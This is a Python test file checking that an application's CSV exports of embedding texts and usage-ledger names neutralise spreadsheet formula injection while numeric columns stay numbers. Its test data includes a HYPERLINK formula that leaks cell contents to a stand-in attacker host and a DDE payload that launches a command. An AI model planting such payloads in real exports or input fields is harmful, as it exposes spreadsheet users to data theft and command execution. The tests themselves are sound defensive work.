"""CSV exports open safely in a spreadsheet: text that looks like a formula stays text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd

from core import db, reports, tables
from core.ledger import Ledger
from core.pricing import PriceTable
from core.schemas import EmbeddingResult, Usage

# What a user may type (texts, names) that Excel, LibreOffice or Google Sheets would run.
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1", "@SUM(A1)", "-2+3"]
HARMLESS = ["plain text", "a = b", "1+1"]


def test_embeddings_csv_escapes_formula_texts_and_keeps_vectors_numeric() -> None:
    texts = [*FORMULAS, "\tTAB", "\rCR", *HARMLESS]
    vectors = [[-0.5 - i, 0.25 * i] for i in range(len(texts))]
    result = EmbeddingResult(model="m", dimensions=2, vectors=vectors, usage=Usage())
    text = tables.vectors_csv(texts, result)

    frame = pd.read_csv(io.StringIO(text), keep_default_na=False)
    expected = ["'" + t for t in [*FORMULAS, "\tTAB", "\rCR"]] + HARMLESS
    assert frame["text"].tolist() == expected
    assert frame["text"].tolist()[:4] == [
        '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")',
        "'+1",
        "'@SUM(A1)",
        "'-2+3",
    ]
    # The vectors are numbers, negative ones too: no quote in front of them.
    assert pd.api.types.is_float_dtype(frame["d0"]) and pd.api.types.is_float_dtype(frame["d1"])
    assert frame["d0"].tolist() == [v[0] for v in vectors]
    assert all(
        not cell.startswith("'") for row in csv.reader(io.StringIO(text)) for cell in row[1:]
    )


def test_usage_csv_escapes_user_and_model_names(tmp_path: Path) -> None:
    ledger = Ledger(db.make_engine(f"sqlite:///{tmp_path / 'usage.db'}"), prices=PriceTable(None))
    db.migrate(ledger.engine)
    names = [("=cmd|' /C calc'!A0", "@SUM(A1)"), ("+1", "-2+3"), ("alice", "gpt-4.1-mini")]
    for i, (user, model) in enumerate(names):
        ledger.record(
            user=user,
            function="chat",
            model=model,
            provider="openai",
            source="ui",
            request_id=f"req_{i}",
            status="ok",
            prompt_tokens=3,
            completion_tokens=4,
            latency_ms=-1.5,  # a negative number in a numeric column is a number
        )
    text = reports.to_csv(ledger.rows())

    frame = pd.read_csv(io.StringIO(text), keep_default_na=False)
    by_request = frame.set_index("request_id")
    assert by_request.loc["req_0", "user"] == "'=cmd|' /C calc'!A0"
    assert by_request.loc["req_0", "model"] == "'@SUM(A1)"
    assert by_request.loc["req_1", "user"] == "'+1"
    assert by_request.loc["req_1", "model"] == "'-2+3"
    assert by_request.loc["req_2", "user"] == "alice"
    assert by_request.loc["req_2", "model"] == "gpt-4.1-mini"
    assert pd.api.types.is_numeric_dtype(frame["latency_ms"])
    assert frame["latency_ms"].tolist() == [-1.5, -1.5, -1.5]
    assert frame["prompt_tokens"].tolist() == [3, 3, 3]
    assert frame["ts"].str.match(r"\d{4}-\d\d-\d\dT").all()


def test_a_csv_without_a_text_column_says_which_column_it_used(tmp_path: Path) -> None:
    named = tmp_path / "named.csv"
    named.write_text("id,text\n1,a cat\n2,a dog\n")
    assert tables.texts_from_file(str(named)) == (["a cat", "a dog"], "the CSV's text column")
    other = tmp_path / "other.csv"
    other.write_text("sentence,label\nhello there,1\n")
    texts, source = tables.texts_from_file(str(other))
    assert texts == ["hello there"] and "'sentence'" in source and "no column named text" in source
